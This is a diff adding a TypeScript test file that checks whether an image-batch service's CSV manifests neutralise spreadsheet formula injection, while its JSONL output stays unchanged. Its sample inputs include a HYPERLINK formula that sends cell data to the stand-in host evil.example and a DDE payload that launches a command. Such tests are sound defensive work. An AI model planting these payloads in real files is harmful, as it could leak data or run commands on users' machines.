@@ -1,0 +1,68 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { FormData } from 'undici';
+import { parseCsv } from '@cutout/shared';
+import type { Json } from '../helpers/jobs.ts';
+import { startSystem, type TestSystem } from '../helpers/system.ts';
+import { manifest, postBatch } from '../helpers/batches.ts';
+import { fetchPath, reviewLink } from '../helpers/reviews.ts';
+
+/** client_refs a spreadsheet would run as formulas, and ordinary ones around them. */
+const FORMULAS = ['=HYPERLINK("https://evil.example/x?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', '=cmd|\' /C calc\'!A0'];
+const PLAIN = ['SKU-1', 'a=b', 'x-1'];
+
+describe('formulas in the results CSV', () => {
+  let system: TestSystem;
+  let batchId: string;
+  const refs = [...FORMULAS, ...PLAIN];
+
+  beforeAll(async () => {
+    // No worker: the manifest lists queued items, which is all these checks need.
+    system = await startSystem({ workers: 0 });
+    const items = refs.map((ref, i) => ({ image_url: `https://images.example.com/p/${i}.jpg`, client_ref: ref, metadata: { note: ref } }));
+    const created = await postBatch(system, { items });
+    expect(created.status).toBe(202);
+    batchId = created.body.id;
+  });
+  afterAll(async () => {
+    await system?.close();
+  });
+
+  const clientRefs = (csv: string) => {
+    const [header, ...rows] = parseCsv(csv);
+    expect(header![0]).toBe('client_ref');
+    return rows.map((row) => row[0]);
+  };
+
+  it('prefixes every cell that would start a formula with a quote mark, and leaves the others as they are', async () => {
+    const csv = await manifest(system, batchId, 'csv');
+    expect(csv.status).toBe(200);
+    expect(clientRefs(csv.text)).toEqual([...FORMULAS.map((ref) => `'${ref}`), ...PLAIN]);
+    // No line of the file starts a cell with a formula character.
+    expect(csv.text.split(/\r\n/).some((line) => line.split(',').some((cell) => /^"?[=+\-@\t\r]/.test(cell)))).toBe(false);
+  });
+
+  it('keeps the JSON lines byte for byte', async () => {
+    const jsonl = await manifest(system, batchId, 'jsonl');
+    const lines = jsonl.text.trimEnd().split('\n');
+    const rows = lines.map((line) => JSON.parse(line) as Json);
+    expect(rows.map((row) => row.client_ref)).toEqual(refs);
+    expect(lines).toEqual(rows.map((row) => JSON.stringify(row)));
+    for (const [i, ref] of refs.entries()) expect(lines[i]).toContain(`"client_ref":${JSON.stringify(ref)}`);
+  });
+
+  it('neutralises the same cells in the manifest a review link serves', async () => {
+    const link = await reviewLink(system, 'batches', batchId);
+    const csv = await fetchPath(system, `${link.path}/manifest?format=csv`);
+    expect(csv.status).toBe(200);
+    expect(clientRefs(csv.text)).toEqual([...FORMULAS.map((ref) => `'${ref}`), ...PLAIN]);
+  });
+
+  it('neutralises client_refs that came in through a CSV manifest', async () => {
+    const form = new FormData();
+    form.append('manifest', new Blob(['image_url,client_ref\r\nhttps://images.example.com/q/1.jpg,"=1+2"\r\nhttps://images.example.com/q/2.jpg,@A1\r\n'], { type: 'text/csv' }), 'm.csv');
+    const created = await postBatch(system, form);
+    expect(created.status).toBe(202);
+    expect(clientRefs((await manifest(system, created.body.id, 'csv')).text)).toEqual(["'=1+2", "'@A1"]);
+    expect((await manifest(system, created.body.id, 'jsonl')).text).toContain('"client_ref":"=1+2"');
+  });
+});
